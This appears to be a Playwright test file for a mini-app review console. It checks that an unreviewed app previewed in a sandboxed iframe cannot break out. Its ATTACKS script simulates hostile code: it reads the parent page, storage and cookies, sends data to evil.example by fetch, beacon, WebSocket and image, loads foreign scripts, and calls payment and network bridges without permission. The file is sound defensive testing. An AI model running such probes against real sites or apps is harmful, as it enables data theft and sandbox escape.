"""A version that nobody has approved, in a phone of the console, in a real Chromium: it runs, and can do nothing else.

What the attacks below try is what a hostile publisher's code could: it runs in the app's own page.
"""

import json
from collections.abc import Iterator
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import httpx2
import pytest
from browser_desk import REVIEWER, SOON_MS, Desk, shots_folder

from sampan.platform.testing_cli import DemoServer

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Frame, Page

pytestmark = pytest.mark.xdist_group("console")
SAYS = "Preview · not reviewed · all data is made up"

# Each attempt resolves to what stopped it; one that worked resolves to "DONE".
ATTACKS = """
async (console_) => {
  const tried = {};
  const attempt = async (name, work) => {
    try { tried[name] = (await work()) ?? "DONE"; } catch (problem) { tried[name] = `${problem.name}`; }
  };
  const failed = (node, event) => new Promise((done) => {
    node.onload = () => done("DONE"); node.onerror = () => done("error"); setTimeout(() => done("nothing"), 3000);
    document.body.append(node);
  });
  await attempt("read the console's page", () => parent.document.title);
  await attempt("read the console's storage", () => parent.localStorage.length);
  await attempt("see the console's address", () => parent.location.href);
  await attempt("move the console away", () => { top.location.href = "https://evil.example/"; });
  await attempt("open a window", () => open("https://evil.example/") === null ? "null" : "DONE");
  await attempt("call the console's API", () => fetch(`${console_}/api/v1/session`, {credentials: "include"}));
  await attempt("call the API blindly", () => fetch(`${console_}/api/v1/session`, {mode: "no-cors"}));
  await attempt("call another host", () => fetch("https://evil.example/"));
  await attempt("beacon", () => new Promise((done) => {
    addEventListener("securitypolicyviolation", () => done("blocked"), {once: true});
    setTimeout(() => done("DONE"), 5000); navigator.sendBeacon("https://evil.example/beacon");
  }));
  await attempt("socket", () => new Promise((done) => {
    const socket = new WebSocket("wss://evil.example/"); socket.onopen = () => done("DONE");
    socket.onerror = () => done("error");
  }));
  await attempt("take data out by a picture", () =>
    failed(Object.assign(new Image(), {src: "https://evil.example/x"})));
  await attempt("script of another host", () =>
    failed(Object.assign(document.createElement("script"), {src: "https://evil.example/x.js"})));
  await attempt("inline script", () => {
    const node = document.createElement("script"); node.textContent = "window.inlined = 1";
    document.body.append(node); return window.inlined ? "DONE" : "blocked";
  });
  await attempt("eval", () => { (0, eval)("1"); });
  await attempt("a worker script of its own", () => navigator.serviceWorker.register("/app.js"));
  await attempt("a worker script with a query", () => navigator.serviceWorker.register("/__sw.js?preview=mine"));
  await attempt("a web worker", () => new Promise((done) => {
    new Worker("/app.js").onerror = () => done("error"); setTimeout(() => done("DONE"), 5000);
  }));
  await attempt("the server's boot script", async () => (await fetch("/__boot.js")).ok ? undefined : "404");
  await attempt("cookies", () => document.cookie === "" ? "none" : `DONE ${document.cookie}`);
  await attempt("pay without permission", async () => {
    try { await sampan.pay({order: "1", amount: {value_minor: 1, currency: "CNY"}, title: "x"}); }
    catch (problem) { return problem.code; }
  });
  await attempt("the network bridge", async () => {
    try { await sampan.network.fetch("https://evil.example/"); } catch (problem) { return problem.code; }
  });
  return tried;
}
"""


class SameSite(Desk):
    """The people at the console on the site of the apps: Playwright's contexts let foreign sites store nothing."""

    @property
    def console(self) -> str:
        return f"http://console.sampan.localhost:{self.server.port}/console"


@pytest.fixture(scope="module")
def desk(browser: "Browser", demo_server: DemoServer, tmp_path_factory: pytest.TempPathFactory) -> Desk:
    found = SameSite(demo_server, tmp_path_factory.mktemp("desk"))
    found.sit_down(browser)
    return found


@pytest.fixture
def page(desk: Desk) -> "Iterator[Page]":
    app, sequence = desk.in_review
    with desk.at(REVIEWER) as page:
        page.goto(f"{desk.console}/apps/{app}/versions/{sequence}")
        yield page


def begin(page: "Page") -> "Frame":
    """Begin the preview and return the app's frame once it shows something."""
    page.get_by_role("button", name="Begin the preview").click()
    page.get_by_text(SAYS, exact=True).wait_for()
    place = page.locator(".live-phone iframe")
    frame = place.element_handle().content_frame()
    assert frame is not None
    frame.locator("h1, h2, main").first.wait_for(timeout=SOON_MS)
    return frame


def becomes(frame: "Frame", condition: str) -> None:
    """Return when a condition holds in the app; its policy lets no test evaluate text there again and again."""
    look = """
    async (patience) => {
      const end = performance.now() + patience;
      while (performance.now() < end) {
        if (%s) return true;
        await new Promise((next) => requestAnimationFrame(next));
      }
      return false;
    }
    """
    assert frame.evaluate(look % condition, SOON_MS), condition


def test_a_reviewer_sees_the_version_run_in_each_size_and_mode(desk: Desk, page: "Page") -> None:
    assert page.locator(".live-phone").count() == 0  # nothing of it runs before somebody asks
    frame = begin(page)
    assert urlsplit(frame.url).hostname != urlsplit(page.url).hostname
    assert page.locator(".live-phone iframe").get_attribute("sandbox") == "allow-scripts allow-same-origin allow-forms"
    assert frame.evaluate("innerWidth") == 390
    page.get_by_title("Small phone").click()
    becomes(frame, "innerWidth === 320")
    page.get_by_title("Tablet").click()
    becomes(frame, "innerWidth === 768")
    page.get_by_title("Phone", exact=True).click()
    page.get_by_title("Dark", exact=True).click()
    becomes(frame, "(await sampan.theme()).scheme === 'dark'")
    page.get_by_title("中文").click()
    becomes(frame, "await sampan.language() === 'zh'")
    shots = shots_folder()
    if shots is not None:
        page.screenshot(path=shots / "preview.png", full_page=True)
    page.get_by_role("button", name="End the preview").click()
    page.locator(".live-phone").wait_for(state="detached")


def test_a_hostile_version_reaches_nothing(desk: Desk, page: "Page") -> None:
    frame = begin(page)
    address = page.url
    tried = frame.evaluate(ATTACKS, desk.console)
    done = {name: how for name, how in tried.items() if how.startswith("DONE")}
    assert done == {}, json.dumps(tried, indent=1)
    assert tried["pay without permission"] == "permission_denied"
    assert tried["the network bridge"] == "permission_denied"
    assert page.url == address
    said = page.locator(".preview-said")
    said.get_by_text("Refused: permission_denied").first.wait_for()
    said.get_by_text("Blocked by the content policy: connect-src").first.wait_for()
    assert len(page.context.pages) == 1


@pytest.mark.parametrize(
    ("attack", "code"),
    [
        ("(console_) => { location.href = `${console_}/`; }", "left_origin"),
        ("() => { location.href = '/__boot?x'; }", "left_origin"),
        (
            """() => { for (let n = 0; n < 100; n++) parent.postMessage({sampan: "hello", nonce: `${n}`, version: 1,
                 sequence: 1, digest: ""}, "*"); }""",
            "served_other_version",
        ),
    ],
)
def test_an_app_that_misbehaves_is_closed(desk: Desk, page: "Page", attack: str, code: str) -> None:
    frame = begin(page)
    frame.evaluate(attack, desk.console)
    page.get_by_text(f"The preview was closed, because of what the app did ({code}).").wait_for()
    assert page.locator(".live-phone").count() == 0


def test_the_address_of_a_preview_shows_nothing_elsewhere(desk: Desk, page: "Page") -> None:
    frame = begin(page)
    address = frame.url
    place = urlsplit(address)
    for path in (place.path, "/", "/__boot", "/__sw.js"):
        answer = httpx2.get(f"{desk.server.address}{path}", headers={"host": place.netloc})
        assert (answer.status_code, answer.content) == (404, b"")
    again = begin_again(page)
    assert urlsplit(again.url).hostname != urlsplit(address).hostname


def begin_again(page: "Page") -> "Frame":
    from playwright.sync_api import expect

    place = page.locator(".live-phone iframe")
    before = str(place.get_attribute("src"))
    page.get_by_role("button", name="Begin again").click()
    expect(place).not_to_have_attribute("src", before, timeout=SOON_MS)
    page.get_by_text(SAYS, exact=True).wait_for()
    frame = page.locator(".live-phone iframe").element_handle().content_frame()
    assert frame is not None
    frame.locator("h1, h2, main").first.wait_for(timeout=SOON_MS)
    return frame


def test_a_browser_that_blocks_foreign_storage_is_told_where_it_works(desk: Desk) -> None:
    foreign = Desk(desk.server, desk.folder)
    foreign.sit_down(desk.browser)
    app, sequence = desk.in_review
    with foreign.at(REVIEWER) as page:
        page.goto(f"{foreign.console}/apps/{app}/versions/{sequence}")
        page.get_by_role("button", name="Begin the preview").click()
        link = page.get_by_role("link", name=f"http://console.sampan.localhost:{desk.server.port}")
        assert link.get_attribute("href") == f"{desk.console}/apps/{app}/versions/{sequence}"
